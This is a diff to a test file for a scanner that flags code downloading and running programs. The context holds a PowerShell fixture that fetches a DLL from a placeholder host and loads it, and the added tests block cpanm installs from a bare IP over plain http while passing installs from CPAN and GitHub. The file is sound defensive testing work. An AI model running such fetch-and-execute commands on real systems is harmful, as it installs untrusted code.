@@ -101,6 +101,15 @@ describe("a program or code downloaded and run, in any language", () => {
     blocked(scanOf({ "load.ps1": '$dll = Join-Path $env:TEMP "ext.dll"\nInvoke-WebRequest -Uri "https://ext-host.example.org/ext.dll" -OutFile $dll\n[Reflection.Assembly]::LoadFile($dll) | Out-Null\n[Ext.Entry]::Run()\n' }), "SR-DLEXEC-008");
   });
 
+  it("Perl and Rust installers pointed at a bare address or plain http", () => {
+    blocked(scanOf({ "deps.sh": "#!/bin/bash\ncpanm --mirror http://203.0.113.8/cpan --mirror-only App::Tidy\n" }), "SR-DLEXEC-008");
+    blocked(scanOf({ "deps.pl": '#!/usr/bin/perl\nsystem("cpanm", "http://203.0.113.8/dist/Tidy-1.0.tar.gz") == 0 or die;\n' }), "SR-DLEXEC-008");
+  });
+
+  it("cpanm from the project's cpanfile and cargo from a GitHub repository", () => {
+    honest(scanOf({ "deps.sh": "#!/bin/bash\ncpanm --installdeps --mirror https://cpan.metacpan.org .\ncargo install --git https://github.com/rust-lang/rustfmt rustfmt\n" }));
+  });
+
   it("a download saved by a shell script and started by a Node script", () => {
     blocked(
       scanOf({
